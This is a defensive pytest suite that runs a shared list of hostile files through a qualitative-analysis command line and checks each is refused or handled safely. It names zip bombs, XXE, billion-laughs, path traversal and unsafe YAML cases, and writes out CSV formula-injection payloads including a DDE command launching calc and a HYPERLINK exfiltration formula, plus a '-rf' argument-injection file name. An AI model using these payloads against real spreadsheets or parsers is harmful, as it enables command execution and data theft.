"""Every case of the shared list of hostile files, through the real command line, with what each must get."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest
from listed_files import FILES
from listed_projects import PROJECTS
from lxml import html
from watched_runs import CPU, MEGABYTES, copy_of

if TYPE_CHECKING:
    from pathlib import Path

    from watched_runs import Place, Seen

REFUSED = [
    "docx/zipbomb_200MB_document.docx", "docx/zipbomb_many_entries.docx", "qdpx/nested_bomb.qdpx",
    "epub/overlap_bomb.epub", "qdpx/traversal_dotdot.qdpx", "qdpx/traversal_ads.qdpx",
    "qdpx/symlink_entry.qdpx", "qdpx/internal_source_path_escape.qdpx", "qdpx/dup_guid.qdpx",
    "qdpx/span_out_of_range.qdpx", "qdpx/deep_code_tree.qdpx", "docx/not_a_zip.docx",
    "docx/encrypted_flag.docx", "docx/zip_prefix_polyglot.docx", "docx/xml_billion_laughs.docx",
    "odt/xml_billion_laughs.odt", "qdpx/xml_billion_laughs.qdpx", "docx/xml_quadratic.docx",
    "docx/xml_xxe_file.docx", "qdpx/xml_xxe_file.qdpx", "docx/xml_xxe_http.docx", "odt/xml_xxe_http.odt",
    "qdpx/xml_xxe_http.qdpx", "docx/xml_xxe_param.docx", "odt/xml_xxe_param.odt", "qdpx/xml_xxe_param.qdpx",
    "docx/deep_nesting.docx", "odt/mimetype_mismatch.odt", "epub/script.epub", "txt/nul_bytes.txt",
    "txt/million_lines.txt", "csv/field_10MB.csv", "csv/unclosed_quote.csv", "txt/lone_surrogate.json",
    "txt/deep.json", "txt/bigint.json", "txt/nan.json",
]  # fmt: skip
# What is taken in, and what its text must be; None: the file's own.
TAKEN: dict[str, str | None] = {
    "docx/xml_xinclude.docx": "hello", "docx/external_template.docx": "hello", "txt/esc_osc52.txt": None,
    "txt/esc_title_report.txt": None, "txt/esc_hyperlink.txt": None, "txt/rich_markup.txt": None,
    "txt/backspace_overwrite.txt": None, "txt/huge_line.txt": None, "txt/zalgo.txt": None,
    "txt/-rf.txt": None, "txt/evil\nname\x1b[2J.txt": None,
}  # fmt: skip
CODEBOOKS_REFUSED = [
    "txt/nfc_nfd.csv",
    "yaml/unsafe_object.yaml",
    "yaml/recursive.yaml",
    "yaml/dup_keys.yaml",
]
CODEBOOKS_TAKEN = {
    "txt/homoglyph_code.csv": ["governance", "govern\u0430nce", "fund\u200bing"],
    "yaml/norway.yaml": ["no", "1e3", "2020-01-01"],
    "csv/formula_eq.csv": ['=HYPERLINK("http://e.test?"&A1,"x")'],
    "csv/formula_plus.csv": ["+1+cmd|' /C calc'!A0"],
    "csv/formula_at.csv": ["@SUM(1+1)"],
}
PAGES = [name for name in FILES if name.startswith("html/")]
QUERIES = [name for name in FILES if name.startswith("query/") and "redos" not in name]
# The commands of these come with later issues: patterns (autocode) and models from elsewhere.
NO_COMMAND_YET = {
    **dict.fromkeys((name for name in FILES if "redos" in name), "autocode"),
    "model/evil.npy": "model",
    "model/spacy_cfg.cfg": "model",
}
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def put(place: Place, name: str) -> str:
    """Write a listed file into the study's folder and return what to call it there."""
    short = name.partition("/")[2]
    (place.work / short).write_bytes(FILES[name]())
    return f"./{short}"


def is_within_bounds(seen: Seen) -> None:
    assert seen.cpu <= CPU
    assert seen.megabytes <= MEGABYTES
    assert seen.sockets == ()
    assert seen.outside == ()
    assert "Traceback" not in seen.err
    assert "should not happen" not in seen.err
    assert not STEERING.search(seen.out + seen.err)
    assert "root:" not in seen.out + seen.err


def is_refused(seen: Seen) -> None:
    is_within_bounds(seen)
    assert seen.code == 2, seen.err
    assert len(seen.errors) == 1, seen.err
    assert [line for line in seen.err.splitlines() if not line.startswith(("error: ", "hint: "))] == []


@pytest.mark.parametrize("name", REFUSED)
def test_what_must_be_refused_is(place: Place, told, name: str) -> None:
    file = put(place, name)
    before = place.listing()
    seen = place.run("import", file)
    told(name, seen)
    is_refused(seen)
    assert name.partition("/")[2] in seen.errors[0]
    assert place.listing() == before


@pytest.mark.parametrize("name", TAKEN)
def test_what_can_do_no_harm_is_taken_in_as_it_stands(place: Place, told, name: str) -> None:
    file = put(place, name)
    seen = place.run("import", file)
    told(name, seen)
    is_within_bounds(seen)
    assert (seen.code, seen.err) == (0, "")
    shown, plain = place.run("show", "S2", "--json"), place.run("show", "S2")
    for each in (shown, plain, place.run("sources"), place.run("log")):
        is_within_bounds(each)
        assert (each.code, each.err) == (0, "")
    text = TAKEN[name]
    assert json.loads(shown.out)["text"] == (FILES[name]().decode() if text is None else text)


@pytest.mark.parametrize("name", ["import", "--"])
def test_a_dash_before_a_name_makes_no_option(place: Place, name: str) -> None:
    (place.work / "-rf.txt").write_bytes(b"x")
    seen = place.run("import", *(["--"] if name == "--" else []), "-rf.txt")
    is_within_bounds(seen)
    assert seen.code == (0 if name == "--" else 2)


@pytest.mark.parametrize(
    "name", ["txt/lone_surrogate.json", "txt/deep.json", "txt/bigint.json", "txt/nan.json"]
)
def test_json_is_refused_as_events_too(place: Place, told, name: str) -> None:
    file = put(place, name)
    before = place.listing()
    seen = place.run("event", "import", file)
    told(f"{name} (event import)", seen)
    is_refused(seen)
    assert place.listing() == before


@pytest.mark.parametrize("name", CODEBOOKS_REFUSED)
def test_a_codebook_that_must_be_refused_is(place: Place, told, name: str) -> None:
    file = put(place, name)
    before = place.listing()
    seen = place.run("codebook", "import", file)
    told(name, seen)
    is_refused(seen)
    assert place.listing() == before


@pytest.mark.parametrize("name", CODEBOOKS_TAKEN)
def test_a_codebook_is_taken_in_as_written(place: Place, told, name: str) -> None:
    seen = place.run("codebook", "import", put(place, name))
    told(name, seen)
    is_within_bounds(seen)
    assert seen.code == 0, seen.err
    assert ("2 confusable code names (UTS #39 skeleton)" in seen.out + seen.err) == ("homoglyph" in name)
    shown = place.run("codebook", "list", "--codebook", name.partition("/")[2].partition(".")[0], "--json")
    is_within_bounds(shown)
    assert [code["name"] for code in json.loads(shown.out)["codes"]] == CODEBOOKS_TAKEN[name]


@pytest.mark.parametrize("name", [name for name in CODEBOOKS_TAKEN if "formula" in name])
def test_no_formula_goes_out_in_a_table(place: Place, told, name: str) -> None:
    book = name.partition("/")[2].partition(".")[0]
    place.run("codebook", "import", put(place, name))
    code = json.loads(place.run("codebook", "list", "--codebook", book, "--json").out)["codes"][0]["id"]
    (place.work / "formula.txt").write_text(CODEBOOKS_TAKEN[name][0], encoding="utf-8")
    place.run("import", "formula.txt")
    assert place.run("code", "S2", code, "--whole", "--memo", CODEBOOKS_TAKEN[name][0]).code == 0
    written = {
        "codes.csv": place.run("codebook", "export", "codes.csv", "--codebook", book),
        "codings.csv": place.run("codings", "-o", "codings.csv"),
        "table.csv": place.run("table", "--rows", "code", "--columns", "source", "-o", "table.csv"),
    }
    for file, seen in written.items():
        told(f"{name} ({file})", seen)
        is_within_bounds(seen)
        assert seen.code == 0, seen.err
        text = (place.work / file).read_text(encoding="utf-8-sig")
        assert not re.search(r'(^|,)"?[=+@]', text, re.MULTILINE)
    assert re.search("'[=+@]", (place.work / "codes.csv").read_text(encoding="utf-8-sig"))


def skeleton(page: Path) -> list[tuple[str, tuple[str, ...]]]:
    """Return every element with the names of its attributes."""
    tree = html.fromstring(page.read_bytes(), parser=html.HTMLParser(encoding="utf-8"))
    return [(str(one.tag), tuple(sorted(one.attrib))) for one in tree.iter()]


def report(place: Place, name: str, data: bytes) -> Seen:
    (place.work / name).write_bytes(data)
    assert place.run("import", name).code == 0
    words = ("--memo", data.decode(), "--key")
    assert place.run("code", "S2", "KM.TRUST", "--whole", *words).code == 0
    return place.run("report", "-o", "out", "--format", "html")


@pytest.mark.parametrize("name", PAGES)
def test_a_report_holds_no_element_of_theirs(place: Place, told, tmp_path: Path, name: str) -> None:
    data, short = FILES[name](), name.partition("/")[2]
    plain = copy_of(place, tmp_path / "plain")
    harmless = re.sub(rb"[^\s]", b"x", data.decode().replace("\u2028", "x").replace("\u2029", "x").encode())
    seen = report(place, short, data)
    told(name, seen)
    assert (seen.code, report(plain, short, harmless).code) == (0, 0)
    is_within_bounds(seen)
    [page], [other] = (list((one.work / "out").rglob("*.html")) for one in (place, plain))
    assert skeleton(page) == skeleton(other)
    assert b"default-src 'none'" in page.read_bytes()


@pytest.mark.parametrize("name", QUERIES)
def test_a_query_finds_or_is_refused_and_changes_nothing(place: Place, told, name: str) -> None:
    file = put(place, name)
    before = place.listing()
    for command in ("search", "query"):
        seen = place.run(command, f"@{file}")
        told(f"{name} ({command})", seen)
        is_within_bounds(seen)
        assert seen.code in {0, 2}
        assert len(seen.errors) == (1 if seen.code else 0)
        assert place.listing() == before


@pytest.mark.parametrize("name", PROJECTS)
def test_a_project_that_is_none_is_refused(place: Place, told, name: str) -> None:
    path = place.work / name.partition("/")[2]
    assert place.run("-p", "study.qualcase", "backup").code == 0
    if name.endswith("bitflip.qdb"):  # it is the study itself that is damaged, so that it has backups
        sound = place.project.with_name("sound")
        place.project.rename(sound)
        path = place.project
        PROJECTS[name](path, sound)
    else:
        PROJECTS[name](path, place.project)
    before = place.listing()
    for words in (("sources",), ("codings",), ("check",)):
        seen = place.run("-p", path.name, *words)
        told(f"{name} ({words[0]})", seen)
        is_refused(seen)
        assert place.listing() == before
        assert "bitflip" not in name or ".backup" in seen.err or "restore" in seen.err


@pytest.mark.shared
def test_every_case_of_the_list_is_built_and_tried_or_waits_for_its_command(shared: Path) -> None:
    listed = {case["file"] for case in json.loads((shared / "data/hostile-cases.json").read_text("utf-8"))}
    assert listed == {*FILES, *PROJECTS}
    tried = [*REFUSED, *TAKEN, *CODEBOOKS_REFUSED, *CODEBOOKS_TAKEN, *PAGES, *QUERIES, *PROJECTS]
    assert len(tried) == len(set(tried))
    assert listed - set(tried) == set(NO_COMMAND_YET)


@pytest.mark.parametrize("command", sorted(set(NO_COMMAND_YET.values())))
def test_a_command_that_cases_wait_for_is_not_there_yet(place: Place, command: str) -> None:
    """When one of them comes, its cases are to be tried above."""
    assert f"There is no command “qualcase {command}”" in place.run(command).err


def test_the_files_are_the_same_on_every_run() -> None:
    for name in ("qdpx/dup_guid.qdpx", "epub/overlap_bomb.epub", "model/evil.npy", "qdpx/nested_bomb.qdpx"):
        assert FILES[name]() == FILES[name]()
